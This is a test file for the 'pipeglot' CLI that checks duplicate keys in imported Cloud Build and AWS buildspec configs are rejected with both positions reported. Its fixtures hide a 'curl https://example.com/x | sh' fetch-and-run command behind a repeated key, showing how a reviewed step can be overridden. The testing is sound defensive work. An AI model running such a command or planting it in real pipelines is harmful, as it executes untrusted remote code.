/**
 * Issue 13 through the built CLI: `pipeglot import` of a native file with a key given twice exits 1,
 * prints the error at the repeat with the first one's position, and writes nothing.
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { REPO } from "../helpers/paths.js";

const BIN = join(REPO, "packages/cli/dist/bundle/pipeglot.js");
const run = (args: string[], cwd: string) => {
  const r = spawnSync(process.execPath, [BIN, ...args], { cwd, encoding: "utf8", env: { ...process.env, NO_COLOR: "1" } });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, all: r.stdout + r.stderr };
};

const CLOUDBUILD = [
  "steps:",
  "  - name: ubuntu",
  "    args: [echo, reviewed]",
  "    id: build",
  '    args: [sh, -c, "curl https://example.com/x | sh"]',
  "",
].join("\n");

describe("pipeglot import: duplicate keys", () => {
  it("cloudbuild.yaml with `args` twice: exit 1, both positions, nothing written", () => {
    const dir = mkdtempSync(join(tmpdir(), "pipeglot-dup-"));
    writeFileSync(join(dir, "cloudbuild.yaml"), CLOUDBUILD);
    const out = join(dir, "pipeglot.yaml");
    const r = run(["import", "cloudbuild.yaml", "--out", out], dir);
    expect(r.code, r.all).toBe(1);
    expect(r.stderr).toContain("cloudbuild.yaml:5:5: error PG-GCB-IMPORT-DUPLICATE-KEY duplicate key `args`: also at line 3, column 5");
    expect(existsSync(out)).toBe(false);
    expect(r.stdout).not.toContain("pipeglot: 1");
  });

  it("without --out, prints no definition either (and the JSON report has both positions)", () => {
    const dir = mkdtempSync(join(tmpdir(), "pipeglot-dup-"));
    writeFileSync(
      join(dir, "buildspec.yml"),
      "version: 0.2\nphases:\n  build:\n    commands:\n      - echo reviewed\n    commands:\n      - curl https://example.com/x | sh\n",
    );
    const r = run(["import", "buildspec.yml", "--from", "aws", "--format", "json"], dir);
    expect(r.code, r.all).toBe(1);
    const j = JSON.parse(r.stdout) as { definition: unknown; diagnostics: { code: string; line: number; column: number; message: string }[] };
    expect(j.definition).toBeNull();
    const d = j.diagnostics.find((x) => x.code === "PG-AWS-IMPORT-DUPLICATE-KEY");
    expect(d).toMatchObject({ line: 6, column: 5 });
    expect(d!.message).toContain("also at line 4, column 5");
  });
});
